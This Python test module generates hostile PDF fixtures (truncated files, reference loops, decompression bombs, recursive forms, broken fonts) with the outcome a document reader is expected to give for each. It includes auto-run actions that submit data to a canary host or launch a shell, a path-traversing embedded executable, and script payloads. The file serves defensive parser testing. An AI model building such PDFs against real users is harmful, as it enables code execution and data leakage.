"""Hostile PDF files."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas
from tests.hostile.cases import CANARY, Case, Read, Refused, act, case
from tests.readers.making import packed

FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
BROKEN, LARGE, EMPTY, FORMAT = (Refused(reason) for reason in ("pdf-broken", "too-large", "empty", "format"))


def drawn(words: str, encrypt: StandardEncryption | None = None) -> bytes:
    """A sound PDF of one page with these words."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=True, encrypt=encrypt)
    canvas.drawString(60, 700, words)
    canvas.save()
    return buffer.getvalue()


def objects(*bodies: str | bytes, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, the first its catalogue."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(content))
        body = body.encode("latin-1") if isinstance(body, str) else body
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"trailer <</Size {len(bodies) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{len(content)}\n%%EOF"
    return content + f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n{table}{end}".encode()


def stream(written: str | bytes, more: str = "") -> bytes:
    data = written.encode("cp1252") if isinstance(written, str) else written
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(data), more.encode(), data)


def shown(words: str, before: str = "") -> str:
    """Page content that shows these words."""
    escaped = words.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
    return f"BT {before} /F 12 Tf 60 700 Td ({escaped}) Tj ET"


def page(
    content: str | bytes,
    *others: str | bytes,
    box: str = "0 0 595 842",
    catalogue: str = "",
    more: str = "",
    font: str = FONT,
    resources: str = "",
) -> bytes:
    """A PDF of one page with this content; ``others`` are objects from number 6 on."""
    return objects(
        f"<</Type/Catalog/Pages 2 0 R {catalogue}>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>> {resources}>> {more}>>",
        content if isinstance(content, bytes) else stream(content),
        font,
        *others,
    )


def cases() -> Iterator[Case]:
    yield from _cut()
    yield from _tables()
    yield from _active()
    yield from _locked()
    yield from _large()
    yield from _forms()
    yield from _fonts()
    yield from _lengths()
    yield from _headers()
    yield from _seen()


def _cut() -> Iterator[Case]:
    for name, share in (("head", 0.05), ("quarter", 0.25), ("half", 0.5), ("most", 0.8)):
        whole = drawn(act(f"coupée {name}"))
        yield case(f"cut-{name}.pdf", whole[: int(len(whole) * share)], BROKEN)
    whole = drawn(act("sans fin"))
    yield case("cut-trailer.pdf", whole[: whole.rindex(b"startxref")], f"{act('sans fin')}\n")
    yield case("cut-end.pdf", drawn(act("à moins six"))[:-6], f"{act('à moins six')}\n")
    yield case("only-header.pdf", b"%PDF-1.7\n", BROKEN)
    yield case("header-and-noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, BROKEN)


def _tables() -> Iterator[Case]:
    for name, place in (("itself", None), ("negative", -1), ("beyond", 10**12)):
        words = act(f"table {name}")
        sound = page(shown(words))
        start = int(sound.split(b"startxref\n")[1].split()[0]) if place is None else place
        yield case(
            f"xref-{name}.pdf",
            page(shown(words)).replace(b"trailer <<", b"trailer <</Prev %d " % start),
            f"{words}\n",
        )
    words = act("deux tables")
    first = page(shown(words))
    start = int(first.split(b"startxref\n")[1].split()[0])
    second = b"\nxref\n0 0\ntrailer <</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (
        start,
        len(first) + 25,
    )
    yield case(
        "xref-each-other.pdf",
        first.replace(b"trailer <<", b"trailer <</Prev %d " % (len(first) + 26)) + second,
        f"{words}\n",
    )
    yield case("root-is-nothing.pdf", page(shown("x")).replace(b"/Root 1 0 R", b"/Root 9 0 R"), BROKEN)
    yield case(
        "kids-loop.pdf", objects("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[2 0 R]>>"), BROKEN
    )
    yield case(
        "count-lies.pdf",
        page(shown(act("compte faux"))).replace(b"/Count 1", b"/Count 999999999"),
        f"{act('compte faux')}\n",
    )
    yield case(
        "count-negative.pdf",
        page(shown(act("compte négatif"))).replace(b"/Count 1", b"/Count -1"),
        f"{act('compte négatif')}\n",
    )
    for name, count in (("many", 10**9), ("negative", -5)):
        packed_objects = stream(zlib.compress(b"1 0 " * 10), f"/Type/ObjStm/N {count}/First 8/Filter/FlateDecode")
        yield case(
            f"objstm-{name}.pdf", page(shown(act(f"objets {name}")), packed_objects), f"{act(f'objets {name}')}\n"
        )
    itself = stream(b"6 0 <<>>", "/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    yield case(
        "objstm-extends-itself.pdf", page(shown(act("objets en boucle")), itself), f"{act('objets en boucle')}\n"
    )


ACTIONS = {
    "javascript": "<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('{to}'\\))>>",
    "launch": "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "uri": "<</S/URI/URI({to}/uri)>>",
    "submit": "<</S/SubmitForm/F<</FS/URL/F({to}/submit)>>>>",
    "remote": "<</S/GoToR/F<</FS/URL/F({to}/remote.pdf)>>/D[0/Fit]>>",
    "import": "<</S/ImportData/F<</FS/URL/F({to}/data.fdf)>>>>",
}


def _active() -> Iterator[Case]:
    for name, action in ACTIONS.items():
        words = act(f"action {name}")
        yield case(
            f"action-{name}.pdf",
            page(shown(words), catalogue=f"/OpenAction {action.format(to=CANARY)}"),
            f"{words}\n",
        )
    program = stream(b"MZ\x90\0" * 100, "/Type/EmbeddedFile")
    named = "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(../../a.exe)/EF<</F 6 0 R>>>>]>>>>"
    yield case(
        "embedded-program.pdf",
        page(shown(act("avec programme")), program, catalogue=named),
        f"{act('avec programme')}\n",
    )
    inner = stream(drawn(act("interne")), "/Type/EmbeddedFile")
    yield case(
        "pdf-in-pdf.pdf",
        page(shown(act("externe")), inner, catalogue=named.replace("a.exe", "a.pdf")),
        f"{act('externe')}\n",
    )
    form = f"/AcroForm<</XFA(<x>{CANARY}</x>)/Fields[6 0 R]/NeedAppearances true/CO[6 0 R]>>"
    field = "<</FT/Tx/T(a)/V(caché)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</C<</S/JavaScript/JS(while\\(1\\);)>>>>>>"
    yield case(
        "form-calculates.pdf",
        page(shown(act("avec formulaire")), field, catalogue=form, more="/Annots[6 0 R]"),
        Read(act("avec formulaire"), part=True),
    )
    loop = "/Outlines<</First 6 0 R/Last 6 0 R/Count 1>>"
    yield case(
        "outline-loop.pdf",
        page(shown(act("plan en boucle")), "<</Title(a)/Next 6 0 R/First 6 0 R>>", catalogue=loop),
        f"{act('plan en boucle')}\n",
    )
    link = "<</Type/Annot/Subtype/Link/Rect[0 0 900 900]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>"
    yield case(
        "link-javascript.pdf", page(shown(act("avec lien")), link, more="/Annots[6 0 R]"), f"{act('avec lien')}\n"
    )
    many = "[" + "6 0 R " * 200_000 + "]"
    yield case(
        "annotations-many.pdf",
        page(shown(act("annotée")), "<</Type/Annot/Subtype/Square/Rect[1 1 2 2]>>", more=f"/Annots{many}"),
        f"{act('annotée')}\n",
    )


def _locked() -> Iterator[Case]:
    locked = Refused("pdf-encrypted")
    yield case("locked.pdf", drawn("x", StandardEncryption("secret", ownerPassword="owner")), locked)
    yield case(
        "locked-strong.pdf", drawn("x", StandardEncryption("secret", ownerPassword="owner", strength=128)), locked
    )
    yield case(
        "locked-by-owner.pdf",
        drawn(act("du propriétaire"), StandardEncryption("", ownerPassword="owner", canPrint=0, canCopy=0)),
        f"{act('du propriétaire')}\n",
    )
    yield case(
        "locked-strangely.pdf",
        page(shown("x")).replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Unknown/V 99>>"),
        BROKEN,
    )


def _large() -> Iterator[Case]:
    many = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 100000/Kids[" + "3 0 R " * 100_000 + "]>>"]
    yield case("pages-100000.pdf", objects(*many, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"), LARGE)
    yield case("box-negative.pdf", page(shown("x"), box="0 0 -500 -500"), EMPTY)
    for name, box in (
        ("giant", "0 0 1e9 1e9"),
        ("nothing", "0 0 0 0"),
        ("words", "(a) /b null [ ]"),
        ("far", "-1e30 -1e30 1e30 1e30"),
    ):
        yield case(f"box-{name}.pdf", page(shown(act(f"cadre {name}")), box=box), f"{act(f'cadre {name}')}\n")
    bomb = zlib.compress(b" " * 60_000_000 + shown(act("gonflée")).encode("cp1252"), 9)
    yield case("bomb-content.pdf", page(stream(bomb, "/Filter/FlateDecode")), f"{act('gonflée')}\n")
    twice = zlib.compress(zlib.compress(b" " * 60_000_000, 9), 9)
    yield case("bomb-filters.pdf", page(stream(twice, "/Filter[/FlateDecode/FlateDecode]")), EMPTY)
    yield case("filters-1000.pdf", page(stream(b"x", f"/Filter[{'/FlateDecode ' * 1000}]")), EMPTY)
    yield case(
        "nested-arrays.pdf",
        page(shown(act("en tableaux")), "[" * 100_000 + "]" * 100_000, more="/A 6 0 R"),
        f"{act('en tableaux')}\n",
    )
    yield case("nested-text.pdf", page("q " * 100_000 + shown(act("empilée"))), f"{act('empilée')}\n")
    picture = stream(
        zlib.compress(b"\0" * 1000),
        "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
    )
    yield case(
        "picture-60000.pdf",
        page(
            f"q 500 0 0 500 0 0 cm /I Do Q {shown(act('image immense'))}",
            picture,
            resources="/XObject<</I 6 0 R>>",
        ),
        f"{act('image immense')}\n\n",
    )
    places = "".join(f"BT /F 1 Tf {n % 600} {n // 600} Td (a) Tj ET " for n in range(60_000))
    yield case("letters-apart.pdf", page(places), Read("a", part=True))


def _forms() -> Iterator[Case]:
    own = stream("/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    named = "/XObject<</X 6 0 R>>"
    yield case(
        "form-in-itself.pdf",
        page("/X Do " + shown(act("en boucle")), own, resources=named),
        f"{act('en boucle')}\n",
    )
    levels = [
        stream(
            "/X Do " * 10, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {number + 1} 0 R>>>>"
        )
        for number in range(6, 11)
    ]
    last = stream("", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    yield case(
        "form-laughs.pdf",
        page("/X Do " + shown(act("qui rit")), *levels, last, resources=named),
        f"{act('qui rit')}\n",
    )
    tile = stream(
        "/Pattern cs /P scn 0 0 9 9 re f",
        "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 1e-9/YStep 1e-9/Resources<</Pattern<</P 6 0 R>>>>",
    )
    yield case(
        "pattern-in-itself.pdf",
        page(
            "/Pattern cs /P scn 0 0 500 500 re f " + shown(act("à motif")), tile, resources="/Pattern<</P 6 0 R>>"
        ),
        f"{act('à motif')}\n",
    )


def _mapped(to: str) -> bytes:
    """A page of one letter, A, which the font says stands for these UTF-16 units."""
    font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding/ToUnicode 6 0 R>>"
    cmap = f"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <41> <{to}> endbfchar endcmap"
    return page(shown(f"A {act('de la police')}"), stream(cmap), font=font)


def _fonts() -> Iterator[Case]:
    nothing = "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>]>>"
    yield case("font-without-unicode.pdf", page(shown(act("sans table")), font=nothing), Read("潮獥", part=True))
    yield case("font-missing.pdf", page(shown(act("sans police")), font="null"), f"{act('sans police')}\n")
    yield case(
        "font-is-page.pdf",
        page(shown(act("page police"))).replace(b"/F 5 0 R", b"/F 3 0 R"),
        Read("page police", part=True),
    )
    for name, units in (
        ("bidi", "202E"),
        ("surrogate", "D800"),
        ("nul", "0000"),
        ("escape", "001B005B00330031006D"),
        ("many", "0061" * 250),
    ):
        yield case(f"font-maps-{name}.pdf", _mapped(units), Read("de la police", part=True))
    program = stream(bytes(range(256)) * 20, "/Length1 5120")
    broken = "<</Type/Font/Subtype/TrueType/BaseFont/X/Encoding/WinAnsiEncoding/FirstChar 0/LastChar 255/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 32/FontFile2 6 0 R>>>>"
    yield case(
        "font-program-noise.pdf", page(shown(act("en bruit")), program, font=broken), f"{act('en bruit')}\n"
    )
    glyphs = "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>"
    yield case("font-draws-itself.pdf", page(shown("aaa"), stream("BT /F 9 Tf (a) Tj ET"), font=glyphs), "aaa\n")


def _lengths() -> Iterator[Case]:
    for name, length in (("negative", -1), ("huge", 2**63), ("short", 3)):
        words = act(f"longueur {name}")
        data = shown(words).encode("cp1252")
        content = b"<</Length %d>>\nstream\n%s\nendstream" % (length, data)
        yield case(f"length-{name}.pdf", page(content), f"{words}\n")
    itself = b"<</Length 4 0 R>>\nstream\n" + shown(act("longueur propre")).encode("cp1252") + b"\nendstream"
    yield case("length-itself.pdf", page(itself), f"{act('longueur propre')}\n")
    yield case("flate-noise.pdf", page(stream(b"not compressed at all", "/Filter/FlateDecode")), EMPTY)
    image = "/Type/XObject/Subtype/Image/Width 100/Height 100/BitsPerComponent 1/ColorSpace/DeviceGray/Filter"
    for kind in ("JBIG2Decode", "JPXDecode", "DCTDecode", "CCITTFaxDecode"):
        noise = stream(bytes(range(256)) * 4, f"{image}/{kind}")
        yield case(
            f"image-noise-{kind.lower()}.pdf",
            page(f"/I Do {shown(act(kind))}", noise, resources="/XObject<</I 6 0 R>>"),
            f"{act(kind)}\n",
        )


def _headers() -> Iterator[Case]:
    yield case("header-missing.pdf", page(shown("x")).removeprefix(b"%PDF-1.7\n"), Read("1 0 obj", part=True))
    yield case("program.pdf", b"MZ\x90\0\1", FORMAT)
    yield case("header-late.pdf", b"junk " * 100 + drawn(act("tardive")), f"{act('tardive')}\n")
    yield case("header-too-late.pdf", b"\1\2\0\3" * 300 + drawn("x"), FORMAT)
    yield case("header-of-program.pdf", b"MZ\x90\0" + drawn(act("du programme")), f"{act('du programme')}\n")
    yield case(
        "header-version.pdf",
        drawn(act("version 99")).replace(b"%PDF-1.3", b"%PDF-99.99", 1),
        f"{act('version 99')}\n",
    )
    yield case("two-in-one.pdf", drawn(act("première")) + drawn(act("seconde")), f"{act('seconde')}\n")
    yield case("pdf-and-html.pdf", b"<html><script>alert(1)</script>\n" + drawn(act("mêlée")), f"{act('mêlée')}\n")
    yield case("pdf-and-zip.pdf", drawn(act("bicéphale")) + packed({"a.txt": "zip"}), f"{act('bicéphale')}\n")


def _seen() -> Iterator[Case]:
    hidden = "1 1 1 rg BT /F 12 Tf 60 600 Td (blanc sur blanc) Tj ET "
    yield case("text-white.pdf", page(hidden + shown(act("blanche"))), Read(act("blanche"), part=True))
    yield case("text-invisible.pdf", page(shown(act("invisible"), "3 Tr")), Read(act("invisible"), part=True))
    yield case(
        "text-outside.pdf",
        page(f"BT /F 12 Tf 99999 99999 Td (dehors) Tj ET {shown(act('dedans'))}"),
        Read(act("dedans"), part=True),
    )
    yield case(
        "text-infinite.pdf",
        page(f"BT /F 1e38 Tf 1e38 1e38 Td (x) Tj ET {shown(act('infinie'))}"),
        Read(act("infinie"), part=True),
    )
    yield case("text-tiny.pdf", page(shown(act("minuscule")).replace("/F 12 Tf", "/F 0.0001 Tf")), EMPTY)
    yield case(
        "actual-text.pdf",
        page(f"/Span<</ActualText(<script>alert\\(1\\)</script>)>>BDC {shown(act('balisée'))} EMC"),
        "<script>alert(1)</script>\n",
    )
    yield case("nothing-on-page.pdf", page(""), EMPTY)
    yield case(
        "page-rotated.pdf", page(shown(act("tournée")), more="/Rotate 12345"), Read(act("tournée"), part=True)
    )
